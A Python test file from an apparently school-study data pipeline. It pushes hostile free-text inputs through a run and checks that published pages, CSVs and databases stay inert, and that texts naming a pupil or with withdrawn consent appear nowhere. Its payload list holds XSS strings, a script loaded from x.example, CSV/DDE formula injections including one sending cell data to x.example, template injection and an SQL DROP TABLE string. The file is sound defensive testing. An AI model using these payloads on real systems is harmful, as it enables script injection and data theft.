"""Malicious texts, and texts that name a pupil, through a whole run.

Nothing is executed or hidden, and held or withdrawn texts appear nowhere.
"""

import csv
import re
import unicodedata
from collections.abc import Iterator
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from pipelines.free_text.review import inert_in_spreadsheet, publishable_text
from pipelines.publishing import retention
from pipelines.study.paths import PROJECT
from tests.evaluated import PAGES, Evaluated, evaluate_here
from tests.graph.test_privacy import texts_of
from tests.tiny_study import TinyStudy
from tests.unit.disclosure.test_released_tables import CASE, FORM, STATEMENT, SUPPORT

# Part of every text, so that it can be found anywhere.
PROBE = "it probed"
HELD = "held from readers"
WITHDRAWN = "taken back later"
WITHDRAWN_SUPPORT = "received and taken back"
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "closing tags": "</p></blockquote></figure></main><script src=//x.example/x.js></script>",
    "attribute": "\"><img src=x onerror=alert(1)>'",
    "svg": "<svg onload=alert(1)><style>*{display:none}</style></svg>",
    "comment": "<!-- ]]> -->",
    "template": "{{ 7 * 7 }}{% raw %}",
    "markdown": "![x](javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD4=) `x`",
    "formula": '=HYPERLINK("http://x.example/?"&A1)',
    "plus formula": "+1+cmd|' /C calc'!A0",
    "at formula": "@SUM(A1:A9)",
    "minus formula": "-2+3+cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r=SUM(1,1)",
    "typst": '#import "@preview/x:0.1.0": * #eval("1+1") $x$ @ref <label>',
    "sql": "'); DROP TABLE released.statements; --",
    "right to left": "\u202egnp.\u202c \u2067x\u2069 \u200f",
    # NUL is excluded, because a file with it is refused (`tests/unit/ingest`).
    "controls": "a\x01b\x07c\x1b[31m",
    "zero width": "in\u200bvi\ufeffsi\u00adble",
    "emoji": "👩‍👩‍👧 🏳️‍🌈 👍🏽",
    "marks": "z" + "\u0336\u0301\u0489" * 40,
    "long": "very long " * 10_000,
    "endless": "w" * 100_000,
}
# Part of every school's name: a formula for matplotlib, a joined emoji for PDF/UA, this project's
# own marker characters, and characters that reverse a line or control a terminal.
ODD_NAME = "$x_1$ $\\frac$ 👩‍👩‍👧 \ue000impact|x|y|z\ue0015\ue002 \u202eelpmaxe \x1b[31m"
TEXTS = {name: f"{text} {PROBE}" for name, text in HOSTILE.items()}
NEVER = {
    "img",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "foreignobject",
    "input",
}


# Our own script, and the icon, which is in the page itself.
SCRIPT = (PROJECT / "pipelines" / "document" / "document.js").read_text(encoding="utf-8")
ICON = "data:image/svg+xml,"
# Allowed link targets: the page itself, the other page, and files of the same run.
LINKS = ("#", *PAGES.values(), "../charts/", "../released/")


class Page(HTMLParser):
    """The page as a browser parses it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.scripts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "script":
            self.scripts.append("")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            self.scripts[-1] += data
        self.text += data


def study(parent: Path) -> TinyStudy:
    tiny = TinyStudy(parent)
    for row in tiny.tables["register.csv"]:
        row["EstablishmentName"] = f"{row['EstablishmentName']} {ODD_NAME}"
    named = f"Zofka Wren, A799200117001, {HELD}."
    quotes = [*TEXTS.values(), named, f"We shall see: {WITHDRAWN}."]
    tiny.add("statements.csv", 'kind = "statements"', [STATEMENT | {"quote": q} for q in quotes])
    case = {"context": TEXTS["script"], "support_received": TEXTS["svg"]}
    tiny.add(
        "cases.csv",
        'kind = "case_studies"',
        [CASE | case | {"statement": TEXTS["typst"]}, CASE | {"urn": 900002, "context": named}],
    )
    tiny.add(
        "support.csv",
        'kind = "case_study_support"',
        [
            SUPPORT | {"support": text}
            for text in (*TEXTS.values(), named, f"A visit: {WITHDRAWN_SUPPORT}.")
        ],
    )
    tiny.add(
        "forms.csv",
        'kind = "evaluations"',
        [
            FORM | {"theme": "=1+1", "consent": "yes", "free_text": TEXTS["attribute"]},
            FORM | {"urn": 900002, "theme": "Time", "consent": "yes", "free_text": named},
            FORM | {"urn": 900004, "theme": "<b>Time", "consent": "no", "free_text": HELD},
        ],
    )
    return tiny


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Evaluated:
    tiny = study(tmp_path_factory.mktemp("hostile"))
    tiny.write()
    done = evaluate_here(tiny.folder, tiny.paths.marts)
    assert done.status == 0, done.stderr
    return done


@pytest.fixture(scope="module")
def pages(run: Evaluated) -> dict[str, Page]:
    return {document: Page(html) for document, html in run.pages().items()}


def released(run: Evaluated, name: str) -> pd.DataFrame:
    with closing(duckdb.connect(str(run.current / "released.duckdb"), read_only=True)) as con:
        return con.execute(f"FROM released.{name}").df()


def everywhere(folder: Path) -> Iterator[tuple[str, str]]:
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            for where, text in texts_of(path):
                yield f"{path.relative_to(folder)} {where}", text


def test_every_text_is_there_as_text(run: Evaluated, pages: dict[str, Page]) -> None:
    shown = {publishable_text(text) for text in TEXTS.values()}
    assert shown <= set(released(run, "case_study_event")["happened"])
    assert shown <= set(released(run, "statements")["quote"])
    assert shown <= set(pd.read_parquet(run.current / "released" / "statements.parquet")["quote"])
    read = "".join(page.text for page in pages.values())
    assert {text for text in shown if text not in read} == set()
    # Six statements, both case studies and free answers are also in the pack.
    assert sum(text in pages["pack"].text for text in shown) >= 6


@pytest.mark.parametrize("document", PAGES)
def test_a_page_has_no_active_element_or_attribute(pages: dict[str, Page], document: str) -> None:
    page = pages[document]
    tags = {tag for tag, _ in page.elements}
    assert tags & NEVER == set()
    assert tags >= {"blockquote", "svg", "table"}
    assert page.scripts in ([], [SCRIPT])
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")], tag
        links = [attributes.get(name) or "" for name in ("href", "src", "xlink:href", "action")]
        may_be = (ICON,) if tag == "link" else LINKS
        assert not [link for link in links if link and not link.startswith(may_be)], tag


def test_no_cell_of_a_csv_is_a_formula(run: Evaluated) -> None:
    files = sorted(run.current.rglob("*.csv"))
    assert len(files) > 18
    for file in files:
        with file.open(encoding="utf-8", newline="") as lines:
            for row in csv.reader(lines):
                for cell in row:
                    is_number = re.fullmatch(r"[+-]?[\d.,]+(e-?\d+)?%?( [a-z ]+)?", cell)
                    assert is_number or not re.match(r"\s*[=+\-@]|[\t\r]", cell), (file.name, cell)
    with (run.current / "released" / "statements.csv").open(encoding="utf-8", newline="") as lines:
        quotes = {row["quote"] for row in csv.DictReader(lines)}
    assert {inert_in_spreadsheet(publishable_text(text)) for text in TEXTS.values()} <= quotes


def test_no_invisible_character_is_in_the_outputs(run: Evaluated) -> None:
    for path in run.current.rglob("*"):
        if path.suffix in {".csv", ".html", ".json", ".md", ".svg"}:
            text = path.read_text(encoding="utf-8").replace("\u200d", "")
            unseen = {c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Co", "Cn"}}
            assert unseen <= {"\n"}, path


def test_a_text_that_names_a_pupil_is_counted_and_appears_nowhere(run: Evaluated) -> None:
    held = released(run, "text_review").groupby("kind")["n_texts"].max().to_dict()
    assert held == {
        "statements": 1, "case_studies": 1, "case_study_support": 1, "evaluations": 1,
    }  # fmt: skip
    assert {
        where for where, text in everywhere(run.current) if HELD in text or "Zofka" in text
    } == set()


def test_neither_the_terminal_nor_dagster_gets_the_text(run: Evaluated) -> None:
    assert PROBE not in run.stdout + run.stderr
    dagster = {
        where
        for where, text in everywhere(run.paths.marts)
        if where.startswith(".dagster") and (PROBE in text or HELD in text)
    }
    assert dagster == set()
    assert (run.paths.marts / ".dagster").is_dir()


def test_withdrawn_consent_removes_a_statement_from_every_output(run: Evaluated) -> None:
    def where(words: str = WITHDRAWN) -> set[str]:
        return {place for place, text in everywhere(run.current) if words in text}

    assert {place.split(" ")[0] for place in where()} == {
        "released.duckdb", "board/technical.html",
        *(f"released/statements.{form}" for form in ("csv", "parquet")),
    }  # fmt: skip
    # The case study's text and its support share one consent.
    assert {place.split(" ")[0] for place in where(WITHDRAWN_SUPPORT)} == {
        "released.duckdb", "board/technical.html",
        *(f"released/case_study_event.{form}" for form in ("csv", "parquet")),
    }  # fmt: skip
    tiny = study(run.folder.parent)
    tiny.tables["cases.csv"][0]["consent"] = "withdrawn"
    tiny.tables["statements.csv"][-1]["consent"] = "withdrawn"
    tiny.write()
    again = evaluate_here(tiny.folder, tiny.paths.marts)
    assert again.status == 0, again.stderr
    assert where() | where(WITHDRAWN_SUPPORT) == set()
    for name in ("case_studies", "case_study_event", "case_study_result"):
        assert released(run, name).empty
    assert len(released(run, "statements")) == len(TEXTS)
    # Earlier runs do not contain it either; they are kept only if nothing was withdrawn.
    assert {place for place, text in everywhere(run.paths.runs) if WITHDRAWN in text} == set()
    assert again.stderr == f"{retention.in_words(1)}\n"
